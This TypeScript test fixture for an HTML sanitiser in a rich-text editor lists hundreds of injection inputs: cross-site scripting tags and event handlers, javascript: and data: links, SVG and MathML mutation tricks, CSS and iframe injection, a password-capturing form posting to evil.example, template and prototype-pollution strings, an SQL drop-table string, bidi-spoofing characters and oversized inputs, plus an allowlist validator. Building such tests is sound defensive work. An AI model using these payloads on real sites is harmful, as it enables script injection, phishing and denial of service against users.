export type AttackClass =
  | 'script'
  | 'handler'
  | 'link'
  | 'namespace'
  | 'mutation'
  | 'style'
  | 'frame'
  | 'template'
  | 'mention'
  | 'invisible'
  | 'bytes'
  | 'size'
  | 'formula'
  | 'code';

export interface Attack {
  readonly kind: AttackClass;
  readonly text: string;
}

/** Every script calls `alert`, which browser tests detect. */
const RUN = 'alert(1)';

const script = [
  `<script>${RUN}</script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\n>${RUN}</script\n>`,
  `<script/x>${RUN}</script>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script src=//evil.example/x.js>`,
  `<script type="module">${RUN}</script>`,
  `<script>/*<p>*/${RUN}/*</p>*/</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<<script>${RUN};//<</script>`,
  `"><script>${RUN}</script>`,
  `'><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `\\u003cscript\\u003e${RUN}\\u003c/script\\u003e`,
  `<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${RUN}</script>`,
];

const handler = [
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"//`,
  `<img src="x" OnErRoR="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<img src=x\tonerror\n=\n${RUN}>`,
  `<img src=\`x\` onerror=\`${RUN}\`>`,
  `<p onclick="${RUN}" onmouseover=${RUN}>move here</p>`,
  `<b onpointerenter=${RUN} tabindex=0 autofocus onfocus=${RUN}>here</b>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}><option>1</select>`,
  `<textarea autofocus onfocus=${RUN}></textarea>`,
  `<details open ontoggle=${RUN}>x</details>`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<body onload=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<dialog open onclose=${RUN}><form method=dialog><button>x</button></form></dialog>`,
  `<div onanimationstart=${RUN} class="nimo-color-red">x</div>`,
  `<a href="#" onclick="${RUN}">x</a>`,
  `<p popover id=x onbeforetoggle=${RUN}>x</p><button popovertarget=x>y</button>`,
];

const link = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  '\u0001javascript:alert(1)',
  'java\tscript:alert(1)',
  'java\nscript:alert(1)',
  'java\r\nscript:alert(1)',
  '&#106;&#97;&#118;&#97;script:alert(1)',
  '&#x6A;avascript:alert(1)',
  'javascript&colon;alert(1)',
  'javascript&#58;alert(1)',
  'javascript://%0aalert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'vbscript:msgbox(1)',
  'blob:https://evil.example/x',
  'view-source:javascript:alert(1)',
  '//evil.example/',
  '/\\evil.example/',
  'https://user:password@evil.example/',
].flatMap((address) => [`<a href="${address}">read on</a>`]);

const namespace = [
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=9>x</text></a></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:${RUN}></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>${RUN}</script>"></iframe></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
  `<math><mi href="javascript:${RUN}">x</mi></math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  `<math><annotation-xml encoding="text/html"><img src=x onerror=${RUN}></annotation-xml></math>`,
];

const mutation = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<p><svg><title><p></title><img src=x onerror=${RUN}></p>`,
  `<table><td><script>${RUN}</script></table>`,
  `<select><template><img src=x onerror=${RUN}></template></select>`,
  `<template><script>${RUN}</script></template>`,
  `<noembed><img title="</noembed><img src=x onerror=${RUN}>"></noembed>`,
  `<xmp><p title="</xmp><img src=x onerror=${RUN}>"></xmp>`,
  `<plaintext><img src=x onerror=${RUN}>`,
  `<ol start="1&quot; onclick=&quot;${RUN}"><li>x</li></ol>`,
  `<a href="https://e.org/&quot;onmouseover=&quot;${RUN}">x</a>`,
  `<code class="language-js&quot; onclick=&quot;${RUN}">x</code>`,
  `<p><b><i></b></i><a><a href="javascript:${RUN}">x</a></a></p>`,
];

const style = [
  '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<style>*{display:none}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<span class="mantine-Modal-root nimo-color-red mantine-Overlay-root">x</span>',
  '<p class="nimo-align-center&#10;evil">x</p>',
  '<font color="red" size="99">x</font>',
  '<p id="root" name="getElementById">x</p>',
];

const frame = [
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="&lt;script&gt;${RUN}&lt;/script&gt;"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<form action="https://evil.example/"><input name=password type=password><button>Log in</button></form>`,
  `<button formaction="javascript:${RUN}">x</button>`,
  `<frameset><frame src="javascript:${RUN}"></frameset>`,
  `<portal src="https://evil.example/"></portal>`,
];

const template = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `{{t "shell:error"}}$t(shell:error.upload)`,
  `{"__proto__":{"polluted":true}}`,
  `'; drop table log.events; --`,
];

const mention = [
  `@[<img src=x onerror=${RUN}>]`,
  '@[@[@[nested]]]',
  `@[a](javascript:${RUN})`,
  '@[a]<b>@[b]</b>',
  `@["onmouseover="${RUN}]`,
  '@[00000000-0000-4000-8000-000000000000]',
];

const invisible = [
  'invoice\u202Etxt.exe',
  '\u2067\u2066\u202Dall of it\u202C',
  '\u200F\u200Eright and left',
  'zero\u200Bwidth\u200D\uFEFFjoiners',
  'Z\u0351\u036B\u0343\u036A\u0302\u036B\u033D\u034F\u0334\u0319\u0324\u031E\u0349a\u0351\u036B\u0343\u036Al\u036Bg\u0343o',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '\u2028alert(1)\u2029',
];

const bytes = [
  '<scr\u0000ipt>alert(1)</script>',
  '<img src=x onerror\u0000=alert(1)>',
  'a\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>',
  '<a href="java\u0000script:alert(1)">x</a>',
  '\u001b[31mred\u0007',
  '<img src=x onerror\u000c=alert(1)>',
];

const size = [
  `<p title="${'x'.repeat(20_000)}">x</p>`,
  `<a href="https://e.org/${'x'.repeat(20_000)}">x</a>`,
  `<p ${'a=1 '.repeat(2_000)}onclick=${RUN}>x</p>`,
  `${'<b>'.repeat(1_000)}x`,
  `<span class="${'nimo-color-red '.repeat(1_000)}">x</span>`,
];

const formulaSources = [
  `\\href{javascript:${RUN}}{x}`,
  `\\url{javascript:${RUN}}`,
  `\\htmlClass{mantine-Modal-root}{x}`,
  `\\htmlId{root}{x}`,
  `\\htmlStyle{position:fixed;inset:0}{x}`,
  `\\htmlData{onclick=${RUN}}{x}`,
  '\\includegraphics{https://evil.example/x.png}',
  '\\def\\a{\\a\\a}\\a',
  '\\def\\a#1{#1#1}\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}}}}',
  '\\rule{9999em}{9999em}',
  '\\hspace{-9999em}\\text{Log in at evil.example}',
  `\\text{<img src=x onerror=${RUN}>}`,
  `\\color{red;background:url(//evil.example)}x`,
  `${'{'.repeat(900)}x${'}'.repeat(900)}`,
];

const escaped = (text: string): string =>
  text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;');

const formula = formulaSources.flatMap((source) => [
  `<code class="nimo-math">${escaped(source)}</code>`,
  `$${source}$`,
]);

const code = [
  `<pre><code class="language-html">&lt;script&gt;${RUN}&lt;/script&gt;</code></pre>`,
  `<pre><code class="language-javascript">${'/'.repeat(9_000)}</code></pre>`,
  `<pre><code class="language-html">${'&lt;'.repeat(9_000)}</code></pre>`,
  `<pre><code class="language-python">${`"""`.repeat(3_000)}</code></pre>`,
  `<pre><code class="language-bash">${'$('.repeat(4_500)}</code></pre>`,
  `<pre><code class="language-css">${'a{'.repeat(4_500)}</code></pre>`,
  `<pre><code class="language-__proto__ language-constructor">x</code></pre>`,
  `<pre class="nimo-math"><code class="nimo-math"><img src=x onerror=${RUN}></code></pre>`,
];

const classes: Readonly<Record<AttackClass, readonly string[]>> = {
  script,
  handler,
  link,
  namespace,
  mutation,
  style,
  frame,
  template,
  mention,
  invisible,
  bytes,
  size,
  formula,
  code,
};

/** Inputs that have caused script injection, phishing or denial of service in other products. */
export const ATTACKS: readonly Attack[] = Object.entries(classes).flatMap(([kind, texts]) =>
  texts.map((text) => ({ kind: kind as AttackClass, text })),
);

/** Short form for test names. */
export const shortLabel = (text: string): string => JSON.stringify(text.slice(0, 60));

const TAGS =
  'p|h[1-6]|blockquote|pre|ul|ol|li|hr|a|b|strong|i|em|u|s|del|code|span|br|sub|sup|kbd|table|thead|tbody|tr|th|td';
/** Our own pictures only. */
const PICTURE = '<img src="/media/[0-9a-f-]{36}\\.webp" alt="[^"<>]*"(?: width="\\d+" height="\\d+")? />';
const CLASS = 'nimo-(?:font|size|color|align)-[a-z]+|language-[a-z0-9+#-]{1,30}|nimo-math';
/** Web, email and same-host URLs. Excludes protocol-relative URLs. */
const ADDRESS = '(?:(?:https?:|mailto:|/(?![/\\\\])|#)[^"<>]*|[^"<>\\s:/\\\\&?#]+(?:[/?#][^"<>]*)?)';
const ATTRIBUTES = `(?: (?:class="(?:${CLASS})(?: (?:${CLASS}))*"|href="${ADDRESS}"|rel="nofollow ugc noopener noreferrer"|target="_blank"|start="\\d{1,6}"|(?:col|row)span="\\d{1,2}"))*`;
const PIECE = new RegExp(`[^<>]+|${PICTURE}|<(?:${TAGS})${ATTRIBUTES}(?: /)?>|</(?:${TAGS})>`, 'uy');

/** Whether HTML consists only of text and allowed elements, attributes, classes and URLs. Independent of the rules under test. */
export function isInert(html: string): boolean {
  // One piece at a time, because one expression over a megabyte would overflow the stack.
  for (PIECE.lastIndex = 0; PIECE.lastIndex < html.length;) if (!PIECE.test(html)) return false;
  return true;
}
